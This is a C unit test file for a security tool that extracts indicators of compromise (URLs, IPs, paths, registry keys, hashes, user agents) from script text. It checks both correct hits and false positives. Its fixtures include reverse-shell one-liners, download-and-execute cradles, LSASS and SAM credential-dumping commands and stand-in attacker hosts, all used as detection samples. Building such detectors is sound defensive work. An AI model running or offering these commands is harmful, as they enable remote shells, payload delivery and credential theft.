/*
 * test_script_ioc.c - indicator extraction on its own fixtures: every
 * indicator type (URLs, domains, IPv4/IPv6, e-mail, Windows/UNC/Unix
 * paths, registry keys, hashes, user agents, named pipes, ports), the
 * defanged forms, layer tagging and limits, and the false positives it
 * must not produce (version strings, .NET type names, cmdlets, file
 * names).
 */
#include "ioc.h"
#include "t.h"

static struct sp_arena A;
static struct sp_ioc_list L;
static char dumpbuf[8192];

static const char *ioc_dump(void)
{
    size_t o = 0;
    dumpbuf[0] = '\0';
    for (size_t i = 0; i < L.n && o + 64 < sizeof(dumpbuf); i++) {
        int w = snprintf(dumpbuf + o, sizeof(dumpbuf) - o, "%s%s=%s",
                         i ? ", " : "", sp_ioc_type_name(L.v[i].type), L.v[i].value);
        if (w > 0)
            o += (size_t)w;
    }
    return dumpbuf;
}

static void extract(const char *text)
{
    sp_arena_reset(&A);
    sp_ioc_list_init(&L, &A, 0);
    T_EQ_INT(sp_ioc_extract(&L, text, strlen(text), 0), SP_OK);
}

/* the text must yield (type, value) */
#define T_IOC(text, type, value)                                              \
    do {                                                                      \
        extract(text);                                                        \
        if (!sp_ioc_list_has(&L, type, value))                                \
            T_FAILF("%s: expected %s %s; got [%s]", text,                     \
                    sp_ioc_type_name(type), value, ioc_dump());               \
    } while (0)

/* the text must not yield `value` as any indicator of `type` */
#define T_NO_IOC(text, type, value)                                           \
    do {                                                                      \
        extract(text);                                                        \
        if (sp_ioc_list_has(&L, type, value))                                 \
            T_FAILF("%s: unexpected %s %s", text, sp_ioc_type_name(type),     \
                    value);                                                   \
    } while (0)

/* the text must yield no indicator of `type` at all */
#define T_NONE(text, kind)                                                    \
    do {                                                                      \
        extract(text);                                                        \
        for (size_t i_ = 0; i_ < L.n; i_++)                                   \
            if (L.v[i_].type == (kind))                                       \
                T_FAILF("%s: unexpected %s %s", text, sp_ioc_type_name(kind), \
                        L.v[i_].value);                                       \
    } while (0)

/* ---- indicators ---------------------------------------------------------- */

static void test_ioc_urls_and_domains(void)
{
    const char *c = "certutil.exe -urlcache -split -f http://7-zip.org/a/7z1604-x64.exe 7zip.exe";
    T_IOC(c, SP_IOC_URL, "http://7-zip.org/a/7z1604-x64.exe");
    T_IOC(c, SP_IOC_DOMAIN, "7-zip.org");
    T_NO_IOC(c, SP_IOC_DOMAIN, "7zip.exe");
    T_NO_IOC(c, SP_IOC_DOMAIN, "certutil.exe");

    c = "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/x/y/master/a.ps1')";
    T_IOC(c, SP_IOC_URL, "https://raw.githubusercontent.com/x/y/master/a.ps1");
    T_IOC(c, SP_IOC_DOMAIN, "raw.githubusercontent.com");
    T_NONE(c, SP_IOC_IPV4);

    /* ports, single-label hosts, IP hosts, trailing punctuation */
    T_IOC("desktopimgdownldr.exe /lockscreenurl:https://domain.com:8080/file.ext /eventName:x",
          SP_IOC_URL, "https://domain.com:8080/file.ext");
    T_IOC("desktopimgdownldr.exe /lockscreenurl:https://domain.com:8080/file.ext", SP_IOC_PORT, "8080");
    T_IOC("regsvr32 /s /n /u /i:http://server/file.sct scrobj.dll", SP_IOC_URL,
          "http://server/file.sct");
    T_NONE("regsvr32 /s /n /u /i:http://server/file.sct scrobj.dll", SP_IOC_DOMAIN);
    T_IOC("msiexec /q /i http://192.168.100.3/tmp/cmd.png", SP_IOC_IPV4, "192.168.100.3");
    T_NONE("msiexec /q /i http://192.168.100.3/tmp/cmd.png", SP_IOC_DOMAIN);
    T_IOC("see (http://evil.example/x).", SP_IOC_URL, "http://evil.example/x");
    T_IOC("GetObject(\"script:https://webserver/payload.sct\").Exec()", SP_IOC_URL,
          "https://webserver/payload.sct");
    /* a URL glued to a switch */
    T_IOC("xwizard RunWizard {7940acf8} /zhttps://pastebin.com/raw/iLxUT5gM", SP_IOC_URL,
          "https://pastebin.com/raw/iLxUT5gM");
    /* bare domains outside URLs */
    T_IOC("ping -n 1 evil-c2.xyz", SP_IOC_DOMAIN, "evil-c2.xyz");
    T_IOC("curl ipinfo.io/json", SP_IOC_DOMAIN, "ipinfo.io");
    /* templated hosts are not indicators */
    T_NONE("$u = \"http://$server/a\"; iwr \"http://{0}/x\" -f $h", SP_IOC_URL);
    /* a fragment a later layer reassembles is dropped by the prune */
    sp_arena_reset(&A);
    sp_ioc_list_init(&L, &A, 0);
    const char *l0 = "iex ('http://ev'+'il.com/a')", *l1 = "iex http://evil.com/a";
    sp_ioc_extract(&L, l0, strlen(l0), 0);
    sp_ioc_extract(&L, l1, strlen(l1), 1);
    sp_ioc_list_prune(&L);
    T_OK(!sp_ioc_list_has(&L, SP_IOC_URL, "http://ev"));
    T_OK(sp_ioc_list_has(&L, SP_IOC_URL, "http://evil.com/a"));
}

static void test_ioc_defanged(void)
{
    T_IOC("hxxp://evil[.]example[.]com/payload.ps1", SP_IOC_URL,
          "http://evil.example.com/payload.ps1");
    T_IOC("hxxp://evil[.]example[.]com/payload.ps1", SP_IOC_DOMAIN, "evil.example.com");
    T_IOC("hXXps[:]//bad(.)site/x", SP_IOC_URL, "https://bad.site/x");
    T_IOC("beacon to c2(dot)example(dot)net every 60s", SP_IOC_DOMAIN, "c2.example.net");
    T_IOC("mail admin[@]evil[.]com", SP_IOC_EMAIL, "admin@evil.com");
    T_IOC("connect 185[.]220[.]101[.]4", SP_IOC_IPV4, "185.220.101.4");
}

static void test_ioc_addresses(void)
{
    T_IOC("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", SP_IOC_IPV4, "10.0.0.1");
    T_IOC("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", SP_IOC_PORT, "4242");
    T_IOC("nc -e /bin/sh 10.0.0.1 4242", SP_IOC_PORT, "4242");
    T_IOC("s.connect((\"10.0.0.1\",4242))", SP_IOC_PORT, "4242");
    T_IOC("export RHOST=\"10.0.0.1\";export RPORT=4242;python -c 'x'", SP_IOC_PORT, "4242");
    T_IOC("$client = New-Object System.Net.Sockets.TCPClient('10.1.2.3',443)", SP_IOC_IPV4,
          "10.1.2.3");
    T_IOC("openssl s_client -quiet -connect 10.0.0.1:4242", SP_IOC_PORT, "4242");
    T_IOC("Invoke-PowerShellTcp -Reverse -IPAddress 10.0.0.9 -Port 4444", SP_IOC_PORT, "4444");
    /* IPv6 */
    const char *c = "s.connect((\"dead:beef:2::125c\",4242,0,2))";
    T_IOC(c, SP_IOC_IPV6, "dead:beef:2::125c");
    T_IOC(c, SP_IOC_PORT, "4242");
    T_IOC("curl http://[2001:db8::1]:8080/x", SP_IOC_IPV6, "2001:db8::1");
    T_IOC("ping fe80::1ff:fe23:4567:890a", SP_IOC_IPV6, "fe80::1ff:fe23:4567:890a");
    /* not addresses */
    T_NONE("Microsoft Windows [Version 10.0.19041.1]", SP_IOC_IPV4);
    T_NONE("System.Management.Automation, Version=3.0.0.0, Culture=neutral", SP_IOC_IPV4);
    T_NONE("C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\csc.exe", SP_IOC_IPV4);
    T_NONE("ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2008.9-0\\MpCmdRun.exe",
           SP_IOC_IPV4);
    T_NONE("ping 192.168.1.300", SP_IOC_IPV4);
    T_NONE("[Convert]::FromBase64String($x); [IO.File]::ReadAllText('a')", SP_IOC_IPV6);
    T_NONE("$list = [System.Collections.ArrayList]::Add($x); $a::Beef", SP_IOC_IPV6);
    T_NONE("at 09:00 /every:m,t", SP_IOC_IPV6);
    T_NONE("getmac 00:1a:2b:3c:4d:5e", SP_IOC_IPV6);
    T_NONE("ping -n 4 10.0.0.1", SP_IOC_PORT);
    T_NONE("mkdir -p /tmp/x", SP_IOC_PORT);
}

static void test_ioc_emails(void)
{
    T_IOC("finger user@example.host.com | more +2 | cmd", SP_IOC_EMAIL, "user@example.host.com");
    T_NONE("scp adversary@adversary-host:/tmp/T1105.txt C:\\temp", SP_IOC_EMAIL);
    T_NONE("SOAPHound.exe --user x --password P@ssword1", SP_IOC_EMAIL);
    T_NONE("https://www.youtube.com/@atomicsonafriday", SP_IOC_EMAIL);
}

static void test_ioc_paths(void)
{
    T_IOC("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
          SP_IOC_FILE_PATH, "C:\\Windows\\System32\\comsvcs.dll");
    T_IOC("copy x %TEMP%\\a.exe", SP_IOC_FILE_PATH, "%TEMP%\\a.exe");
    T_IOC("Start-Process $env:TEMP\\b.ps1", SP_IOC_FILE_PATH, "$env:TEMP\\b.ps1");
    T_IOC("\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --x",
          SP_IOC_FILE_PATH, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe");
    T_IOC("C:\\Program Files\\Vendor\\tool.exe -arg", SP_IOC_FILE_PATH,
          "C:\\Program Files\\Vendor\\tool.exe");
    T_IOC("type c:\\ads\\file.txt:evil.exe", SP_IOC_FILE_PATH, "c:\\ads\\file.txt:evil.exe");
    /* UNC */
    const char *c = "rundll32.exe \\\\10.10.10.10\\share\\payload.dll,EntryPoint";
    T_IOC(c, SP_IOC_UNC_PATH, "\\\\10.10.10.10\\share\\payload.dll");
    T_IOC(c, SP_IOC_IPV4, "10.10.10.10");
    T_IOC("esentutl.exe /y \\\\live.sysinternals.com\\tools\\adrestore.exe /d x /o",
          SP_IOC_UNC_PATH, "\\\\live.sysinternals.com\\tools\\adrestore.exe");
    T_IOC("findstr /S /I cpassword \\\\sysvol\\policies\\*.xml", SP_IOC_UNC_PATH,
          "\\\\sysvol\\policies\\*.xml");
    T_NONE("MpCmdRun.exe -DownloadFile -url https://a.b/c -path c:\\\\temp\\\\beacon.exe",
           SP_IOC_UNC_PATH);
    /* named pipes */
    T_IOC("\\\\.\\pipe\\msagent_12", SP_IOC_NAMED_PIPE, "\\\\.\\pipe\\msagent_12");
    T_IOC("connect \\\\dc01\\pipe\\spoolss now", SP_IOC_NAMED_PIPE, "\\\\dc01\\pipe\\spoolss");
    T_NONE("connect \\\\dc01\\pipe\\spoolss now", SP_IOC_UNC_PATH);
    /* Unix */
    T_IOC("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i", SP_IOC_UNIX_PATH, "/tmp/f");
    T_IOC("cat /etc/shadow", SP_IOC_UNIX_PATH, "/etc/shadow");
    T_NO_IOC("cat x > /dev/null", SP_IOC_UNIX_PATH, "/dev/null");
    T_NONE("cmd /c dir /s /b", SP_IOC_UNIX_PATH);
    T_NONE("https://example.com/etc/passwd", SP_IOC_UNIX_PATH);
}

static void test_ioc_registry(void)
{
    T_IOC("reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
          SP_IOC_REGISTRY, "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
    T_IOC("reg.exe add \"HKEY_CURRENT_USER\\Software\\Classes\\My Key\" /v ART",
          SP_IOC_REGISTRY, "HKEY_CURRENT_USER\\Software\\Classes\\My Key");
    T_IOC("gp 'HKCU:\\Software\\Classes\\AtomicRedTeam'", SP_IOC_REGISTRY,
          "HKCU:\\Software\\Classes\\AtomicRedTeam");
    T_IOC("gp HKLM:Software\\Microsoft\\Windows\\CurrentVersion Certificate", SP_IOC_REGISTRY,
          "HKLM:Software\\Microsoft\\Windows\\CurrentVersion");
    T_IOC("Get-Item Registry::HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet", SP_IOC_REGISTRY,
          "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet");
    T_NONE("reg save HKLM\\SAM c:\\t\\sam.bak", SP_IOC_UNC_PATH);
    T_NONE("HKLMfoo is not a key", SP_IOC_REGISTRY);
}

static void test_ioc_hashes_agents(void)
{
    T_IOC("certutil -hashfile x MD5 d41d8cd98f00b204e9800998ecf8427e", SP_IOC_MD5,
          "d41d8cd98f00b204e9800998ecf8427e");
    T_IOC("sha1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709", SP_IOC_SHA1,
          "da39a3ee5e6b4b0d3255bfef95601890afd80709");
    T_IOC("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 *a.exe",
          SP_IOC_SHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
    T_NONE("-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
           SP_IOC_MD5);
    T_NONE("{00000001-0000-0000-0000-0000FEEDACDC}", SP_IOC_MD5);
    T_IOC("iwr http://x.io/a -UserAgent 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'",
          SP_IOC_USER_AGENT, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)");
    T_IOC("curl --user-agent \"EvilBot/1.0\" http://x.io/", SP_IOC_USER_AGENT, "EvilBot/1.0");
    T_IOC("$wc.Headers.Add('User-Agent','Updater/2.1 (compatible)')", SP_IOC_USER_AGENT,
          "Updater/2.1 (compatible)");
    T_NONE("iwr http://x.io/a -UserAgent $ua", SP_IOC_USER_AGENT);
}

static void test_ioc_no_false_positives(void)
{
    static const char *const lines[] = {
        "(New-Object System.Net.WebClient).DownloadFile($u, $p)",
        "New-Object IO.Compression.DeflateStream($s, [IO.Compression.CompressionMode]::Decompress)",
        "[System.Text.Encoding]::UTF8.GetString($b); [Text.Encoding]::Unicode.GetString($c)",
        "Invoke-WebRequest -Uri $u -OutFile $o; Invoke-Expression $x",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -File install.sh",
        "python setup.py install; tar xf archive.zip; ./run.sh; perl x.pl; cat README.md",
        "$stream = $client.GetStream(); $sendback2 = $sendback + 'PS ' + (pwd).Path",
        "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);os.dup2(s.fileno(),0)",
        "Add-Type -AssemblyName System.IO; [System.IO.File]::ReadAllBytes('a')",
        "Microsoft.Workflow.Compiler.exe tests.xml results.xml",
        "[Reflection.Assembly]::Load($b); [Runtime.InteropServices.Marshal]::Copy($a)",
        "wscript.exe //e:vbscript a.vbs; WScript.Shell; Shell.Application",
        "document.write(); window.close(); sys.exit(0); os.popen('id')",
        "Version 10.0.19041.1 build 6.1.7601.24545",
    };
    for (size_t i = 0; i < SP_ARRAY_SIZE(lines); i++) {
        T_NONE(lines[i], SP_IOC_DOMAIN);
        T_NONE(lines[i], SP_IOC_IPV4);
        T_NONE(lines[i], SP_IOC_IPV6);
        T_NONE(lines[i], SP_IOC_EMAIL);
        T_NONE(lines[i], SP_IOC_URL);
    }
    T_OK(!sp_ioc_is_bare_domain("System.Net", 10));
    T_OK(!sp_ioc_is_bare_domain("powershell.exe", 14));
    T_OK(sp_ioc_is_bare_domain("evil.com", 8));
}

static void test_ioc_layers_and_limits(void)
{
    sp_arena_reset(&A);
    sp_ioc_list_init(&L, &A, 3);
    const char *t = "1.1.1.1 2.2.2.2 3.3.3.3 4.4.4.4 5.5.5.5";
    T_EQ_INT(sp_ioc_extract(&L, t, strlen(t), 2), SP_OK);
    T_EQ_INT(L.n, 3);
    T_OK(L.truncated);
    T_EQ_INT(L.v[0].layer, 2);
    /* same value again in a later layer keeps the first layer */
    sp_ioc_list_init(&L, &A, 0);
    sp_ioc_extract(&L, "8.8.8.8", 7, 1);
    sp_ioc_extract(&L, "dns 8.8.8.8", 11, 3);
    T_EQ_INT(L.n, 1);
    T_EQ_INT(L.v[0].layer, 1);
    /* not NUL-terminated input stays inside its length */
    char buf[16];
    memcpy(buf, "http://a.bc/xyzw", 16);
    sp_ioc_list_init(&L, &A, 0);
    T_EQ_INT(sp_ioc_extract(&L, buf, 16, 0), SP_OK);
    T_OK(sp_ioc_list_has(&L, SP_IOC_URL, "http://a.bc/xyzw"));
    T_EQ_STR(sp_ioc_type_name(SP_IOC_NAMED_PIPE), "named_pipe");
    T_EQ_STR(sp_ioc_type_name((enum sp_ioc_type)99), "unknown");
}

int main(void)
{
    t_prog = "test_script_ioc";
    sp_arena_init(&A, 0);
    T_RUN(test_ioc_urls_and_domains);
    T_RUN(test_ioc_defanged);
    T_RUN(test_ioc_addresses);
    T_RUN(test_ioc_emails);
    T_RUN(test_ioc_paths);
    T_RUN(test_ioc_registry);
    T_RUN(test_ioc_hashes_agents);
    T_RUN(test_ioc_no_false_positives);
    T_RUN(test_ioc_layers_and_limits);
    sp_arena_fini(&A);
    return t_done();
}
